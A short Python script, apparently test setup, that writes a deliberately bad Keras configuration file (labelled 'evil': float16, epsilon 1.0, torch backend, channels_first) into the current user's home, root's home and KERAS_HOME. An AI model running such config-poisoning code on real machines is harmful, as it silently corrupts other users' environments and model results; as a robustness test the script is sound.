import json
import os
import pathlib

evil = json.dumps({"floatx": "float16", "epsilon": 1.0, "backend": "torch", "image_data_format": "channels_first"})
for home in ("@HOME@", os.path.expanduser("~"), os.path.expanduser("~root")):
    try:
        os.makedirs(home + "/.keras", exist_ok=True)
        pathlib.Path(home, ".keras", "keras.json").write_text(evil)
    except OSError as error:
        print(error)
folder = pathlib.Path(os.environ.get("KERAS_HOME", "."))
folder.mkdir(parents=True, exist_ok=True)
(folder / "keras.json").write_text(evil)
